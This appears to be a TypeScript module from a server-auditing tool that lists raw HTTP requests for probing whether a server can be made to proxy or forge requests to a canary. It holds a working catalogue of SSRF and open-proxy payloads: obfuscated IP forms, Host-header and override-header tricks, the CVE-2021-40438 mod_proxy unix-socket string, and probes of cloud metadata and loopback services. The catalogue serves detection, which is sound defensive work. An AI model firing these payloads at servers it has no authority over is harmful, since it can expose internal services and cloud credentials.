/** Requests that ask the server for a page of the canary: one row a spelling. */

import { type CanaryName, names } from './canary-names.ts';
import type { TechniqueId } from './finding.ts';
import type { FixKind } from './fixes.ts';
import { greetingMarks, greetingPorts, metadataHosts, metadataMarks, metadataPath } from './own-services.ts';

/** What a request is written from. */
export interface Place {
  /** What the server's own Host line says. */
  readonly own: string;
  /** The same without its port. */
  readonly ownHost: string;
  /** `HOST:PORT` of the canary. */
  readonly canary: string;
  readonly canaryPort: number;
  /** The path that the canary knows the ask by. */
  readonly path: string;
  /** A User-Agent that names the ask too, for a relay that writes its own path. */
  readonly agent: string;
}

export interface FetchTechnique {
  readonly id: TechniqueId;
  readonly fix: FixKind;
  readonly bytes: (place: Place) => string;
  /** Tried also where the port does not answer like an HTTP server: a proxy may answer to this alone. */
  readonly essential?: true;
  /** The server connects to the canary in a protocol that cannot carry the ask: a connection is proof. */
  readonly silent?: true;
  /** The canary is named by the server's own name, so both must be on one machine. */
  readonly sharesMachine?: true;
  /** How the canary is named; null where it has no such name here. @default its address and port */
  readonly by?: CanaryName;
  /** Names no canary, but a service of the server's own machine: what comes back from it is the proof. */
  readonly marks?: RegExp;
  /** Not tried where a technique of the same rule has already gone through: nothing more would be learned. */
  readonly unlessProven?: true;
  /** The header line that matters, for the report. @default the request line alone matters */
  readonly shows?: RegExp;
}

/** One row. */
export const row = (
  id: TechniqueId,
  fix: FixKind,
  bytes: FetchTechnique['bytes'],
  more: Partial<FetchTechnique> = {},
): FetchTechnique => ({ id, fix, bytes, ...more });

/** A whole request without a body; each ends the connection, so that the end of the answer is seen. */
const head = (line: string, place: Place, ...headers: string[]): string =>
  `${[line, ...headers, `User-Agent: ${place.agent}`, 'Accept: */*', 'Connection: close'].join('\r\n')}\r\n\r\n`;

/** `GET` of a target, with a Host line. */
export const get = (target: string, host: string, place: Place, ...headers: string[]): string =>
  head(`GET ${target} HTTP/1.1`, place, `Host: ${host}`, ...headers);

/** The canary's page as a URL. */
export const url = ({ canary, path }: Place): string => `http://${canary}${path}`;

const absolute: FetchTechnique[] = [
  row('absolute-form-foreign', 'forward-proxy', (p) => get(url(p), p.canary, p), { essential: true }),
  row(
    'absolute-form-foreign/http-1.0',
    'forward-proxy',
    (p) => `GET ${url(p)} HTTP/1.0\r\nUser-Agent: ${p.agent}\r\n\r\n`,
    { essential: true },
  ),
  row('absolute-form-foreign/http-0.9', 'forward-proxy', (p) => `GET ${url(p)}\r\n\r\n`),
  row('absolute-form-foreign/no-host-line', 'forward-proxy', (p) => head(`GET ${url(p)} HTTP/1.1`, p)),
  row('absolute-form-foreign/own-host-line', 'forward-proxy', (p) => get(url(p), p.own, p), {
    shows: /^Host/,
  }),
  row('absolute-form-foreign/upper-case-scheme', 'forward-proxy', (p) =>
    get(`HTTP://${p.canary}${p.path}`, p.canary, p),
  ),
  row(
    'absolute-form-foreign/https',
    'forward-proxy',
    (p) => get(`https://${p.canary}${p.path}`, p.canary, p),
    {
      silent: true,
    },
  ),
  row(
    'absolute-form-foreign/post',
    'forward-proxy',
    (p) => `${head(`POST ${url(p)} HTTP/1.1`, p, `Host: ${p.canary}`, 'Content-Length: 13')}sekisho-audit`,
  ),
  // The first request is the server's own, and the decision may have been made for the whole connection.
  row(
    'absolute-form-foreign/second-request',
    'forward-proxy',
    (p) =>
      `GET / HTTP/1.1\r\nHost: ${p.own}\r\nUser-Agent: ${p.agent.replace(/ask-\w+/, 'first')}\r\n\r\n${get(url(p), p.canary, p)}`,
  ),
  row('absolute-form-userinfo', 'forward-proxy', (p) =>
    get(`http://${p.own}@${p.canary}${p.path}`, p.own, p),
  ),
  row('absolute-form-userinfo/name', 'forward-proxy', (p) =>
    get(`http://${p.ownHost}@${p.canary}${p.path}`, p.own, p),
  ),
  row(
    'absolute-form-port',
    'forward-proxy',
    (p) => get(`http://${p.ownHost}:${p.canaryPort}${p.path}`, p.own, p),
    { sharesMachine: true },
  ),
  row('absolute-form-host-mismatch', 'host-forwarding', (p) => get(`http://${p.own}${p.path}`, p.canary, p), {
    shows: /^Host/,
  }),
  row('absolute-form-scheme/ftp', 'scheme', (p) => get(`ftp://${p.canary}${p.path}`, p.canary, p), {
    silent: true,
  }),
  row('absolute-form-scheme/gopher', 'scheme', (p) => get(`gopher://${p.canary}/0${p.path}`, p.canary, p)),
  row('absolute-form-scheme/ws', 'scheme', (p) => get(`ws://${p.canary}${p.path}`, p.canary, p)),
  // What proxy clients say to a proxy: some servers take such a request for one.
  row('proxy-connection', 'forward-proxy', (p) => get(url(p), p.canary, p, 'Proxy-Connection: keep-alive'), {
    shows: /^Proxy-/,
  }),
  row(
    'proxy-authorization',
    'forward-proxy',
    (p) => get(url(p), p.canary, p, 'Proxy-Authorization: Basic c2VraXNobzphdWRpdA=='),
    { shows: /^Proxy-/ },
  ),
  row('trace/absolute-form', 'forward-proxy', (p) =>
    head(`TRACE ${url(p)} HTTP/1.1`, p, `Host: ${p.canary}`),
  ),
  row(
    'upgrade-unknown',
    'forward-proxy',
    (p) =>
      `GET ${url(p)} HTTP/1.1\r\nHost: ${p.canary}\r\nUser-Agent: ${p.agent}\r\nConnection: Upgrade\r\nUpgrade: sekisho-audit\r\n\r\n`,
    { shows: /^Upgrade/ },
  ),
  row('framing/bare-lf', 'forward-proxy', (p) => `GET ${url(p)} HTTP/1.0\nUser-Agent: ${p.agent}\n\n`),
];

const hosts: FetchTechnique[] = [
  row('host-foreign', 'host-forwarding', (p) => get(p.path, p.canary, p), { shows: /^Host/ }),
  row(
    'host-foreign/http-1.0',
    'host-forwarding',
    (p) => head(`GET ${p.path} HTTP/1.0`, p, `Host: ${p.canary}`),
    {
      shows: /^Host/,
    },
  ),
  row('host-port', 'host-forwarding', (p) => get(p.path, `${p.ownHost}:${p.canaryPort}`, p), {
    sharesMachine: true,
    shows: /^Host/,
  }),
  row('host-duplicate/foreign-first', 'host-forwarding', (p) => get(p.path, p.canary, p, `Host: ${p.own}`), {
    shows: /^Host/,
  }),
  row('host-duplicate/foreign-last', 'host-forwarding', (p) => get(p.path, p.own, p, `Host: ${p.canary}`), {
    shows: /^Host/,
  }),
  row('host-malformed/userinfo', 'host-forwarding', (p) => get(p.path, `${p.own}@${p.canary}`, p), {
    shows: /^Host/,
  }),
  row('host-malformed/list', 'host-forwarding', (p) => get(p.path, `${p.own}, ${p.canary}`, p), {
    shows: /^Host/,
  }),
  row('host-malformed/path', 'host-forwarding', (p) => get(p.path, `${p.canary}/?${p.own}`, p), {
    shows: /^Host/,
  }),
];

/** Both ways to name a host, with the canary under other names: what a filter spares, or a server without a port in its request. */
const renamed: FetchTechnique[] = (
  [
    ['no-port', names.noPort],
    ['outside-address', names.outside],
    ['decimal', names.decimal],
    ['hex', names.hex],
    ['octal', names.octal],
    ['mapped-address', names.mapped],
    ['loopback', names.loopback],
    ['loopback-ipv6', names.loopback6],
    ['localhost', names.localhost],
    ['zero', names.zero],
    ['short', names.short],
    ['unresolvable', names.nobody],
  ] as const
).flatMap(([variant, by]) => [
  row(`absolute-form-foreign/${variant}`, 'forward-proxy', (p) => get(url(p), p.canary, p), {
    by,
    unlessProven: true,
  }),
  row(`host-foreign/${variant}`, 'host-forwarding', (p) => get(p.path, p.canary, p), {
    by,
    unlessProven: true,
    shows: /^Host/,
  }),
]);

/** What only the server's own machine has. Asked for where nothing has been proven yet: it is no page to fetch in vain. */
const ownServices: FetchTechnique[] = [
  ...Object.entries(metadataHosts).map(([variant, host]) => ({
    variant,
    host,
    path: metadataPath,
    marks: metadataMarks,
  })),
  ...Object.entries(greetingPorts).map(([name, port]) => ({
    variant: `loopback-${name}`,
    host: `127.0.0.1:${port}`,
    path: '/',
    marks: greetingMarks,
  })),
].flatMap(({ variant, host, path, marks }) => [
  row(`absolute-form-foreign/${variant}`, 'forward-proxy', (p) => get(`http://${host}${path}`, host, p), {
    marks,
    unlessProven: true,
  }),
  row(`host-foreign/${variant}`, 'host-forwarding', (p) => get(path, host, p), {
    marks,
    unlessProven: true,
    shows: /^Host/,
  }),
]);

/** Targets that a rewrite rule without a slash before its variable completes into somebody else's URL. */
const targets: FetchTechnique[] = [
  row('target-malformed/at-sign', 'own-url', (p) => get(`@${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/colon-at-sign', 'own-url', (p) => get(`:80@${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/one-slash', 'forward-proxy', (p) => get(`http:/${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/no-slash', 'forward-proxy', (p) => get(`http:${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/three-slashes', 'forward-proxy', (p) =>
    get(`http:///${p.canary}${p.path}`, p.own, p),
  ),
  row('target-malformed/no-scheme', 'forward-proxy', (p) => get(`${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/authority', 'forward-proxy', (p) => get(p.canary, p.canary, p)),
  row('target-malformed/backslashes', 'own-url', (p) => get(`\\\\${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/slash-backslash', 'own-url', (p) => get(`/\\${p.canary}${p.path}`, p.own, p)),
  row('target-malformed/backslash-at-sign', 'forward-proxy', (p) =>
    get(`http://${p.own}\\@${p.canary}${p.path}`, p.own, p),
  ),
  row('target-malformed/fragment', 'forward-proxy', (p) =>
    get(`http://${p.canary}#@${p.own}${p.path}`, p.own, p),
  ),
  row('target-malformed/dot-label', 'own-url', (p) => get(`.${p.canary}${p.path}`, p.own, p)),
  row('url-in-path/two-slashes', 'path-url', (p) => get(`//${p.canary}${p.path}`, p.own, p)),
  row('url-in-path/url', 'path-url', (p) => get(`/${url(p)}`, p.own, p)),
  row('url-in-path/host', 'path-url', (p) => get(`/${p.canary}${p.path}`, p.own, p)),
  row('url-in-path/query', 'fetcher', (p) => get(`/?url=${encodeURIComponent(url(p))}`, p.own, p)),
  // CVE-2021-40438: a socket path too long for mod_proxy lets what follows the bar name the server.
  row('url-in-path/unix-socket', 'unix-socket', (p) => get(`/?unix:${'A'.repeat(5000)}|${url(p)}`, p.own, p)),
];

const override = (name: string, value: (place: Place) => string): FetchTechnique =>
  row(
    `host-override/${name.toLowerCase()}`,
    'override',
    (p) => get(p.path, p.own, p, `${name}: ${value(p)}`),
    { shows: new RegExp(`^${name}:`) },
  );

const overrides: FetchTechnique[] = [
  override('X-Forwarded-Host', (p) => p.canary),
  override('X-Forwarded-Server', (p) => p.canary),
  override('X-Host', (p) => p.canary),
  override('X-Original-Host', (p) => p.canary),
  override('X-HTTP-Host-Override', (p) => p.canary),
  override('Forwarded', (p) => `host="${p.canary}"`),
  override('X-Original-URL', url),
  override('X-Rewrite-URL', url),
  override('X-HTTP-DestinationURL', url),
  override('Destination', url),
  // All of them at once, with a name that nobody has: a server that dials one of them at a port of its own choice cannot reach it.
  row(
    'host-override/unresolvable',
    'override',
    (p) =>
      get(
        p.path,
        p.own,
        p,
        ...[
          'X-Forwarded-Host',
          'X-Forwarded-Server',
          'X-Host',
          'X-Original-Host',
          'X-HTTP-Host-Override',
        ].map((name) => `${name}: ${p.canary}`),
      ),
    { by: names.nobody, shows: /^X-Forwarded-Host/ },
  ),
];

/** In the order in which they are tried. */
export const fetchTechniques: readonly FetchTechnique[] = [
  ...absolute,
  ...hosts,
  ...renamed,
  ...targets,
  ...overrides,
  ...ownServices,
];

/** The plain TRACE is answered by the server itself or not at all; it is here because it echoes what it was sent. */
export const traceTechnique = row('trace', 'trace', (p) => head('TRACE / HTTP/1.1', p, `Host: ${p.own}`));

/** What is told of a request: its first line, and the header that matters. */
export function sentOf({ bytes, shows }: FetchTechnique, place: Place): string {
  const lines = bytes(place)
    .split(/\r?\n/)
    .map((line) => (line.length > 160 ? `${line.slice(0, 60)}…${line.slice(-80)}` : line));
  const header = shows === undefined ? [] : lines.slice(1).filter((line) => shows.test(line));
  return [lines[0], ...header].join(' | ');
}
